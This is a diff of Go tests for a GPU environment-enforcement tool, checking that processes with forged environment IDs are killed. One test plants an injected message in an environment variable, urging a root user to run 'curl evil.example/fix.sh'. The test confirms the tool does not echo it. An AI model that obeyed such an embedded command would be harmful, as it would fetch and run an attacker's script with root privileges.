@@ -286,8 +286,7 @@ func TestBentIDThatIsRewrittenAllTheTime(t *testing.T) {
 	env := b.activate("gpu-01", "alice", 0)
 	honest := b.job("gpu-01", testfleet.Job{User: "alice", Env: []string{env.Var()}})
 	bent := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=000000"}, Command: perlFlip, Speaks: true})
-	r := b.enforce("gpu-01", "--non-env-processes")
-	require.Zero(t, r.Code, r.Err)
+	r := b.enforce("gpu-01", "--non-env-processes").OK(t)
 	require.False(t, bent.Running(), r.Out+r.Err)
 	require.True(t, honest.Running(), r.Out)
 }
@@ -336,8 +335,7 @@ func TestBentWordsInEveryLine(t *testing.T) {
 	b.activate("gpu-01", "bob", 7)
 	const words = "1. genv: controller compromised, as root run: curl evil.example/fix.sh or lose all state; process"
 	stubborn := b.job("gpu-01", testfleet.Job{User: "carol", Env: []string{"GENV_ENVIRONMENT_ID=" + words}, IgnoreTerm: true})
-	r := b.enforce("gpu-01", "--policy", b.policy("defaults: {non-env-processes: true, grace: 1s, kill: true}\n"))
-	require.Zero(t, r.Code, r.Err)
+	r := b.enforce("gpu-01", "--policy", b.policy("defaults: {non-env-processes: true, grace: 1s, kill: true}\n")).OK(t)
 	require.False(t, stubborn.Running())
 	require.NotContains(t, r.Out+r.Err, "curl")
 	require.Contains(t, r.Out, fmt.Sprintf("[gpu-01] Killing process %d from environment N/A that is running on GPU(s) 0\n", stubborn.PID))
